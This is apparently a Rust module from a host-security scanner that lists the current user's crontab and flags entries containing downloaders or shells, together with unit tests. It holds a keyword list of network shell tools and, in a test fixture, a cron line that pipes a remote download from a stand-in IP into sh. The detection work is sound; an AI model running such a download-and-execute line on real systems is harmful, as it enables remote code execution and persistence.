use crate::checks::IndicatorCheck;
use crate::error::Result;
use crate::indicator::Indicator;
use crate::probe::ProbeSpec;

/// Downloaders and shells that have no business in a user crontab.
const SUSPICIOUS_COMMANDS: &[&str] = &["curl", "wget", "nc", "bash -i"];

/// The current user's crontab. A user without one is not an error.
pub fn probe() -> ProbeSpec {
    ProbeSpec::command("crontab", ["-l"]).quiet_when("no crontab for")
}

pub fn check() -> Result<IndicatorCheck> {
    IndicatorCheck::builder("scheduled-tasks")
        .description("Cron entries that download or spawn shells")
        .probe(probe())
        .indicators(Indicator::keywords(SUSPICIOUS_COMMANDS.iter().copied()))
        .build()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::checks::{Check, CheckStatus};
    use crate::probe::{FixtureProbe, ProbeError};

    #[test]
    fn flags_download_cradle() {
        let probe = FixtureProbe::new().with_text(
            &probe(),
            "0 3 * * * /usr/local/bin/backup.sh\n*/10 * * * * curl -s http://203.0.113.5/x | sh\n",
        );
        let result = check().unwrap().execute(&probe);
        assert_eq!(result.status, CheckStatus::Fail);
        assert_eq!(result.evidence.len(), 1);
        assert_eq!(result.evidence[0].indicator, "keyword \"curl\"");
    }

    #[test]
    fn missing_crontab_tool_is_error() {
        let probe = FixtureProbe::new().with_error(
            &probe(),
            ProbeError::NotInstalled {
                program: "crontab".into(),
            },
        );
        let result = check().unwrap().execute(&probe);
        assert_eq!(result.status, CheckStatus::Error);
        assert!(result.error.unwrap().contains("crontab"));
    }
}
